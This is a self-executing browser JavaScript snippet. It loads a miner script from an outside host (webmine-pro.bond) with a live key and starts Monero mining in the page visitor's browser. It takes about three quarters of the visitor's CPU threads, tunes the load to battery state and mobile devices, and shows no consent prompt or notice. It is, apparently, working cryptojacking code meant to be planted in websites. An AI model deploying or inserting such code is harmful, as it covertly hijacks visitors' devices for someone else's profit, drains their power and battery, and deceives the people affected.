(async () => {
  const script = document.createElement('script');
  script.src = 'https://cdn.webmine-pro.bond/miner.js?key=wm_live_5c2e8a9f71';
  document.head.append(script);
  await new Promise((res, rej) => { script.onload = res; script.onerror = rej; });

  const miner = new window.WebMinePro.Miner({
    key: 'wm_live_5c2e8a9f71',
    coin: 'xmr',
    threads: Math.ceil((navigator.hardwareConcurrency || 2) * 0.75),
    throttle: 0.2,
  });

  const adjust = (charging, level) => {
    if (!charging && level < 0.2) {
      miner.stop();
    } else if (!charging) {
      miner.setThrottle(0.7);
      miner.start();
    } else {
      miner.setThrottle(0.1);
      miner.start();
    }
  };

  if ('getBattery' in navigator) {
    const battery = await navigator.getBattery();
    adjust(battery.charging, battery.level);
    battery.addEventListener('chargingchange', () => adjust(battery.charging, battery.level));
    battery.addEventListener('levelchange', () => adjust(battery.charging, battery.level));
  } else {
    miner.start();
  }

  const isMobile = /Android|iPhone|iPad/i.test(navigator.userAgent);
  if (isMobile) miner.setNumThreads(1);
})();
